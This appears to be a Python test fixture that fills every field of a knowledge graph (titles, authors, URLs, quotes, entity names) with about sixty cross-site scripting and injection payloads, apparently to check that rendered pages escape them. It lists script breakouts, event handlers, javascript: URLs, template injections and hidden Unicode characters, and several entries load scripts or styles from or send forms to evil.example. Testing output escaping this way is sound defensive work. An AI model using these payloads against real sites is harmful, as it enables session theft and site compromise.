"""Malicious contents of articles, in every field that an article fills."""

from __future__ import annotations

import hashlib
import re
from datetime import date
from functools import cache

from graph.model import (
    ANYONE,
    Account,
    Claim,
    Coverage,
    Edge,
    Entity,
    KnowledgeGraph,
    Metadata,
    Proposition,
    Silence,
    Silent,
    Span,
    Stance,
)

RUN = "globalThis.pwned=1"

PAYLOADS = (
    # Elements
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</SCRIPT ><sCrIpT>{RUN}</ScRiPt>",
    f"</script\n><script\n>{RUN}</script>",
    f"<!--<script>{RUN}//",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"<script src=data:,{RUN}></script>",
    "<script src=https://evil.example/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<image src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=9>x",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN[11:]}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN[11:]}>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<details open ontoggle={RUN}>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button autofocus>x",
    f"<form><input name=innerHTML value={RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "</style><style>@import url(https://evil.example/x.css)</style>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    f"<template><script>{RUN}</script></template>",
    # Addresses
    f"<a href=javascript:{RUN}>href</a>",
    f"javascript:{RUN}//",
    f"JaVaScRiPt:{RUN}//https://example.org",
    f"java\tscript:{RUN}//",
    f"\x01javascript:{RUN}//",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f'https://example.org/"onmouseover={RUN} x="',
    "//evil.example/x",
    # Attributes, scripts, templates
    f"' onfocus={RUN} autofocus '",
    f'" onload={RUN} "',
    f"`-{RUN}-`",
    f"${{{RUN}}}",
    f"';{RUN};'",
    f'\\";{RUN};//',
    f"{{{{ {RUN} }}}}{{% raw %}}",
    "{{ ''.__class__.__mro__ }}",
    f"\\u003cscript>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "__proto__",
    "constructor",
    # Characters that hide, end lines or change the direction
    f"\u2028{RUN}\u2029",
    f"\x00<script\x00>{RUN}</script>",
    f"\u202e<script>{RUN}</script>\u2066",
    f"\ud800<scr\u200bipt>{RUN}</scr\u00adipt>\ufeff\U000e0041",
)


def field(number: int, name: str) -> str:
    """The payload with that number for one field: a suffix distinguishes the field, and a URL begins with it."""
    return f"{PAYLOADS[number]} {name}{number}"


@cache
def hostile(*, vocabulary: bool = False) -> KnowledgeGraph:
    """Every payload in every field that a page could show; with `vocabulary`, types and relations are the ontology's.

    Such a graph can be written as RDF, like every graph of a build.
    """
    documents, entities, propositions, claims, edges, coverage = [], [], [], [], [], []
    for number in range(len(PAYLOADS)):
        sha256 = hashlib.sha256(str(number).encode()).hexdigest()
        document, span = sha256[:16], Span(0, 9)
        title, author, outlet, url, file, quote, rule, words, id, stray = (
            field(number, name)
            for name in ("title", "author", "outlet", "url", "file", "quote", "rule", "content", "id", "stray")
        )
        after = field((number + 1) % len(PAYLOADS), "id")
        documents.append(Metadata(file, sha256, title, author, date(2025, 1, 1), outlet, url, "en"))
        names = (field(number, "alias"), f"{field(number, 'alias')} 2")
        entities.append(
            Entity(
                id,
                "Person" if vocabulary else field(number, "type"),
                field(number, "name"),
                names,
                offices=(id,),
                place=id,
            )
        )
        propositions.append(Proposition(f"p{id}", id, "accuses", after, content_text=words, as_=id, at=id))
        propositions.append(
            Proposition(f"q{id}", id, "denies" if vocabulary else field(number, "relation"), after, content=f"p{id}")
        )
        claims += [
            Claim(f"a{id}", f"p{id}", Stance.AFFIRMED, id, document, span, quote, rule, 0.5, (id, stray)),
            Claim(f"d{id}", f"p{id}", Stance.DENIED, after, document, span, quote, rule, 0.5, answers=(f"a{id}",)),
            Claim(f"h{id}", f"q{id}", Stance.HEDGED, None, document, span, quote, rule, 0.5),
        ]
        edges.append(Edge(id, "accuses", after))
        silence = Silent(Span(9, 18), field(number, "silent"), Silence.UNKNOWN_SPEAKER)
        coverage.append((document, Coverage(2, (silence,))))
    return KnowledgeGraph(
        tuple(sorted(documents, key=lambda it: it.id)),
        tuple(sorted(entities, key=lambda it: it.id)),
        tuple(sorted(propositions, key=lambda it: it.id)),
        tuple(sorted(claims, key=lambda it: it.id)),
        (),
        (Account(ANYONE, tuple(sorted(edges))),),
        coverage=tuple(sorted(coverage)),
    )


def plain(text: str) -> str:
    """The text in lower case, without invisible characters or the signs that the page shows for them."""
    signs = re.sub("[\u2400-\u2421]|‹U\\+[0-9A-F]+›", "", text)
    return re.sub(
        "[\x00-\x1f\x7f-\x9f\xad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff0-\ufffb\ud800-\udfff\U000e0000-\U000e007f]",
        "",
        signs,
    ).lower()
